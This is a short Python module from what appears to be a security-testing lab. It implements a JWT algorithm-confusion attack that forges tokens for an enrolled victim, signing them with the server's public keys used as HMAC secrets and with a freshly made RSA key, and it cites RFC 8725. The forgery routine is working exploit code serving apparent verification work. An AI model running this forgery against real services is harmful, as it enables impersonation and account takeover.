"""Sign with the server's public key as if it were a secret.

Exploits a server that lets the header choose between RSA and HMAC: its public key, which
everyone has, then checks HMAC signatures. Where no public key is given out, the attacker signs
with RSA and hopes.
Source: RFC 8725, section 2.1 Weak Signatures and Insufficient Signature Validation,
https://www.rfc-editor.org/rfc/rfc8725#section-2.1
ASVS: 9.1.2
"""

from jose import jws

from attacks.lab.attack import attack
from attacks.lab.forge import new_rsa_key
from attacks.lab.outcome import Outcome, judge
from attacks.lab.public_keys import public_keys
from attacks.lab.target import Target


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Sign with what is public, and with an RSA key of one's own."""
    victim = target.enrol()
    claims, header = target.claims_about(victim), target.forged_header(alg="RS256")
    answers = {"own RSA key": target.read(jws.sign(claims, new_rsa_key(), header, "RS256"))}
    for name, key in public_keys(target):
        answers[f"{name} as HMAC secret"] = target.read(target.forge(victim, key))
    return judge(answers)
